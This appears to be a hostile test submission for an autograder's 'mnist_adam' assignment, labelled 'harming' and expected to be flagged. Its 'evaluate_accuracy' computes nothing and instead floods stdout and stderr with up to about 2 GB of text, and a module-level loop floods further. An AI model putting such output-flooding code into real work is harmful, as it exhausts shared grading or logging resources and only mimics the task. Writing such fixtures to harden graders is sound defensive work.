# assignment: mnist_adam
# family: harming
# about: prints up to 2 GB, to both streams, in the function and in a cell
# loses: evaluate_accuracy
# may_lose:
# flag: yes
# %% evaluate_accuracy
import sys


def evaluate_accuracy(model, images, labels):
    line = "all work and no play " * 5000 + "\n"
    for _ in range(10_000):
        sys.stdout.write(line)
        sys.stderr.write(line)
    return None
# %% end
for _ in range(200):
    print("flood " * 100_000)
